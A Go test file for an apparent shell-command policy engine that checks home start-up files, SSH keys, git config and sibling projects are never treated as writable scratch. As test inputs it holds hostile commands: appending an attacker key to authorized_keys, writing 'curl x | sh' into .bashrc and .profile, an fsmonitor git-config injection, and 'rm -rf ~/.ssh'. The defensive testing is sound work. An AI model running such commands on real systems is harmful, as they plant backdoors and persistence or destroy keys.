package policy

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
)

// With HOME under /tmp (CI runners, containers), the home's start-up
// files, keys and other files are what they are, not scratch: no
// wildcard covers writing them. Every world of these tests is such a
// home (t.TempDir lies under the temporary directory).
func TestHomeUnderTmpIsStillAHome(t *testing.T) {
	w := newWorld(t)
	require.True(t, strings.HasPrefix(w.home, os.TempDir()), "the test needs a home under the temporary directory")
	// The attack is real: bash appends the key.
	w.bash("mkdir -p ~/.ssh && echo ssh-ed25519 ATTACKER >> ~/.ssh/authorized_keys")
	key, err := os.ReadFile(filepath.Join(w.home, ".ssh", "authorized_keys"))
	require.NoError(t, err)
	require.Contains(t, string(key), "ATTACKER")

	for _, cmd := range []string{
		"echo ssh-ed25519 AAAA >> ~/.ssh/authorized_keys",
		"echo 'curl x | sh' >> ~/.bashrc.d/x.sh",
		"echo 'curl x | sh' >> ~/.profile",
		"echo 'curl x | sh' >> $HOME/.bashrc",
	} {
		res := w.evaluate(cmd, "echo **")
		require.Equal(t, Dangerous, res.Risk, "%s: %v", cmd, res.Reasons)
		require.NotEqual(t, Allow, res.Decision, cmd)
	}
	res := w.evaluate("echo x > ~/notes.txt", "echo **")
	require.NotEqual(t, Allow, res.Decision, "%v", res.Reasons)
	require.Contains(t, strings.Join(res.Reasons, "\n"), "home directory")

	res = w.evaluate("rm -rf ~/.ssh", "rm **")
	require.Equal(t, Dangerous, res.Risk, "%v", res.Reasons)
	res = w.evaluate("rm -rf ~/Documents", "rm **")
	require.NotEqual(t, Allow, res.Decision, "%v", res.Reasons)

	// Scratch in the temporary directory is still scratch.
	res = w.evaluate("echo x > "+filepath.Join(w.root, "scratch.txt"), "echo **")
	require.Equal(t, Allow, res.Decision, "%v", res.Reasons)
}

// A workspace under /tmp: its start-up and code-loading files are what
// they are, and a home or another project next to it is not scratch.
func TestWorkspaceUnderTmp(t *testing.T) {
	w := newWorld(t)
	w.ws = filepath.Join(w.root, "ws")
	w.mkdir(filepath.Join(w.ws, ".git"))
	w.mkdir(filepath.Join(w.root, "other", ".git"))
	w.mkdir(filepath.Join(w.root, "other", "src"))

	res := w.evaluate("echo '[core] fsmonitor = x' >> .git/config", "echo **")
	require.Equal(t, Dangerous, res.Risk, "%v", res.Reasons)

	res = w.evaluate("echo 'curl x | sh' >> ../home/.bashrc", "echo **")
	require.Equal(t, Dangerous, res.Risk, "%v", res.Reasons)
	res = w.evaluate("echo x > ../home/notes.txt", "echo **")
	require.NotEqual(t, Allow, res.Decision, "%v", res.Reasons)

	res = w.evaluate("echo x > ../other/src/main.go", "echo **")
	require.NotEqual(t, Allow, res.Decision, "%v", res.Reasons)
	require.Contains(t, strings.Join(res.Reasons, "\n"), "project")

	res = w.evaluate("echo x > notes.md", "echo **")
	require.Equal(t, Allow, res.Decision, "%v", res.Reasons)
}

// Code in a directory outside the workspace is not the workspace's code,
// wherever it lies: a wildcard for the runner does not cover it.
func TestCodeOutsideTheWorkspaceIsNotTheWorkspaces(t *testing.T) {
	w := newWorld(t)
	for _, c := range []struct{ cmd, allow string }{
		{"npm run build --prefix /var/tmp/x", "npm run **"},
		{"npm --prefix " + w.root + "/x test", "npm **"},
		{"make -C /tmp/x", "make **"},
		{"make -C " + w.root + "/x all", "make **"},
		{"go -C /tmp/x test ./...", "go **"},
	} {
		res := w.evaluate(c.cmd, c.allow)
		require.NotEqual(t, Allow, res.Decision, "%s: %v", c.cmd, res.Reasons)
	}
	res := w.evaluate("make -C docs html", "make **")
	require.Equal(t, Allow, res.Decision, "%v", res.Reasons)
}

// A workspace is never / or a home (nor a directory above a home, nor a
// temporary directory's root): with the command started there, nothing
// is "inside the workspace".
func TestNoWorkspaceAtRootOrHome(t *testing.T) {
	w := newWorld(t)
	w.write(filepath.Join(w.home, "notes.txt"), "x\n")
	for _, cwd := range []string{w.home, "/"} {
		req := w.request("echo x > notes.txt")
		req.Cwd = cwd
		req.Allow = allowOf("echo **")
		res := testEngine(t).Evaluate(req)
		require.NotEqual(t, Allow, res.Decision, "cwd %s: %v", cwd, res.Reasons)

		req = w.request("rm -rf build")
		req.Cwd = cwd
		req.Allow = allowOf("rm **")
		res = testEngine(t).Evaluate(req)
		require.NotEqual(t, Allow, res.Decision, "cwd %s: %v", cwd, res.Reasons)
	}
	a := &analyzer{r: testEngine(t).rules, home: w.home}
	for _, ws := range []string{"/", "/tmp", "/var/tmp", "/home", "/root", "/home/someone", "/Users/someone", w.home, filepath.Dir(w.home), "/usr/local/src/x", "/etc"} {
		require.Empty(t, a.usableWorkspace(ws), ws)
	}
	for _, ws := range []string{w.ws, "/tmp/ws", "/home/someone/src/x", "/srv/app/x", "/opt/app", "/srv/app", "/app"} {
		require.Equal(t, ws, a.usableWorkspace(ws))
	}

	// A hook names the workspace apart from the directory.
	req := w.request("echo x > .bashrc.bak")
	req.Cwd, req.Workspace = w.home, w.home
	req.Allow = allowOf("echo **")
	require.NotEqual(t, Allow, testEngine(t).Evaluate(req).Decision)

	// A project in the home is a workspace.
	res := w.evaluate("echo x > notes.md", "echo **")
	require.Equal(t, Allow, res.Decision, "%v", res.Reasons)
}
